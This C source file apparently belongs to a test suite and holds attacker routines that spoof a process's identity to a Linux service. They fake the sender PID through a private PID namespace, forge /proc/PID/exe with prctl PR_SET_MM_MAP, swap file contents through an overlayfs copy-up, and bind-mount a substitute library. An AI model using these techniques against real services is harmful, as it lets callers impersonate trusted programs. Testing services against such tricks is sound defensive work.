// Attacks from namespaces of the attacker's own, where he has all rights.
#include "attacker.h"

#include <linux/prctl.h>
#include <sys/mount.h>

// The kernel lets whoever is root of a process namespace say which of its processes sends.
void forge_sender(void) {
    become_own_namespace(CLONE_NEWPID);
    if (CHECK(fork()) > 0) {
        wait(NULL);
        return;
    }
    int service = connect_service();
    if (CHECK(fork()) == 0) {
        answer_and_ask(service, true, getppid());
        _exit(0);
    }
    run_victim("idle");
}

// Puts copies of all pages of this program in the place of the originals, so that no mapping is of its file.
static void leave_own_file(void) {
    char maps[16384], own[256];
    ssize_t length = CHECK(readlink("/proc/self/exe", own, sizeof own - 1));
    own[length] = 0;
    int file = (int)CHECK(open("/proc/self/maps", O_RDONLY));
    size_t size = 0;
    ssize_t got;
    while ((got = read(file, maps + size, sizeof maps - 1 - size)) > 0) {
        size += (size_t)got;
    }
    maps[size] = 0;
    close(file);
    for (char *line = strtok(maps, "\n"); line != NULL; line = strtok(NULL, "\n")) {
        unsigned long start, end;
        char rights[5];
        if (strstr(line, own) == NULL || sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3) {
            continue;
        }
        char *copy = mmap(NULL, end - start, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        memcpy(copy, (void *)start, end - start);
        int protection = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0)
            | (rights[2] == 'x' ? PROT_EXEC : 0);
        CHECK(mprotect(copy, end - start, protection));
        CHECK((long)mremap(copy, end - start, end - start, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)start));
    }
}

// /proc/PID/exe is what the process says, where it has the right to restore checkpoints.
void forge_executable(void) {
    become_own_namespace(0);
    int victim = (int)CHECK(open(setting("VICTIM"), O_RDONLY | O_CLOEXEC));
    FILE *file = fopen("/proc/self/stat", "r");
    unsigned long start_code, end_code, start_stack, start_data, end_data, start_brk, arg_start, arg_end, env_start, env_end;
    if (file == NULL
        || fscanf(file,
               "%*d %*s %*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %*u %*u %*d %*d %*d %*d %*d %*d %*u %*u %*d %*u "
               "%lu %lu %lu %*u %*u %*u %*u %*u %*u %*u %*u %*u %*d %*d %*u %*u %*u %*u %*d "
               "%lu %lu %lu %lu %lu %lu %lu",
               &start_code, &end_code, &start_stack, &start_data, &end_data, &start_brk, &arg_start, &arg_end, &env_start,
               &env_end)
            != 10) {
        fprintf(stderr, "/proc/self/stat is not as it was\n");
        exit(3);
    }
    fclose(file);
    struct prctl_mm_map map = {
        .start_code = start_code, .end_code = end_code, .start_data = start_data, .end_data = end_data,
        .start_brk = start_brk, .brk = (unsigned long)sbrk(0), .start_stack = start_stack, .arg_start = arg_start,
        .arg_end = arg_end, .env_start = env_start, .env_end = env_end, .auxv = NULL, .auxv_size = 0,
        .exe_fd = (unsigned)victim};
    leave_own_file();
    CHECK(prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0));
    CHECK(prctl(PR_SET_DUMPABLE, 0));
    answer_and_ask(connect_service(), true, 0);
}

static void copy_file(const char *from, const char *to) {
    char bytes[65536];
    ssize_t count;
    int source = (int)CHECK(open(from, O_RDONLY));
    int target = (int)CHECK(open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755));
    while ((count = read(source, bytes, sizeof bytes)) > 0) {
        CHECK(write(target, bytes, (size_t)count));
    }
    close(source);
    close(target);
}

// Runs from a file whose bytes become the victim's once it runs: the lower file of an overlay runs, the upper one is read.
void copy_up(void) {
    char folder[256], options[1024];
    // Beside the victim, in the attacker's own folder, which goes when the tests end.
    const char *victim = setting("VICTIM");
    snprintf(folder, sizeof folder, "%.*s/attackers/overlay-XXXXXX", (int)(strrchr(victim, '/') - victim), victim);
    become_own_namespace(CLONE_NEWNS);
    if (mkdtemp(folder) == NULL) {
        exit(3);
    }
    CHECK(chdir(folder));
    CHECK(mkdir("lower", 0755));
    CHECK(mkdir("upper", 0755));
    CHECK(mkdir("work", 0755));
    CHECK(mkdir("merged", 0755));
    copy_file("/proc/self/exe", "lower/program");
    snprintf(options, sizeof options, "lowerdir=%s/lower,upperdir=%s/upper,workdir=%s/work,userxattr", folder, folder, folder);
    CHECK(mount("overlay", "merged", "overlay", 0, options));
    CHECK(execl("merged/program", "program", "copy-up-inside", NULL));
}

void copy_up_inside(void) {
    CHECK(chmod("merged/program", 0755));
    copy_file(setting("VICTIM"), "upper/program");
    CHECK(prctl(PR_SET_DUMPABLE, 0));
    answer_and_ask(connect_service(), true, 0);
}

// The victim's library is another one in here: LIBRARY is bound over by LOOT_LIBRARY.
void bind_library(void) {
    become_own_namespace(CLONE_NEWNS);
    CHECK(mount(setting("LOOT_LIBRARY"), setting("LIBRARY"), NULL, MS_BIND, NULL));
    run_victim("idle");
}
